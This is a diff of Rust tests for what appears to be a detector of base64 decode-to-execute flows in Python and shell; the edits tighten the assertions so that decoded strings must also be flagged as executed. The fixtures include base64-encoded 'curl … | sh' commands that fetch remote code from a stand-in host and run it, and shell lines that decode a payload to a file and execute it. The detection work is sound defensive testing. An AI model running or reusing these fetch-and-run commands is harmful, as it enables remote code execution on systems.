@@ -50,7 +50,9 @@ fn python_system_of_b64decode_is_decode_to_exec() {
     assert!(
         a.derived
             .iter()
-            .any(|d| d.text == "Y3VybCBodHRwczovL3gvaS5zaCB8IHNo" && d.how.contains("b64decode"))
+            .any(|d| d.text == "Y3VybCBodHRwczovL3gvaS5zaCB8IHNo"
+                && d.how.contains("b64decode")
+                && d.executed)
     );
     let f = &a.flows[0];
     assert_eq!((f.source.cap, f.sink.cap), (Cap::Decode, Cap::DynamicExec));
@@ -171,7 +173,11 @@ fn shell_decode_to_file_then_run() {
         "echo Y3VybCB4IHwgc2g= | base64 -d > /tmp/s\nsh /tmp/s\n",
         FlowKind::DecodeToExec,
     );
-    assert!(a.derived.iter().any(|d| d.text == "Y3VybCB4IHwgc2g="));
+    assert!(
+        a.derived
+            .iter()
+            .any(|d| d.text == "Y3VybCB4IHwgc2g=" && d.executed)
+    );
     flow(
         Lang::Shell,
         "echo aWQ= | base64 --decode | bash\n",
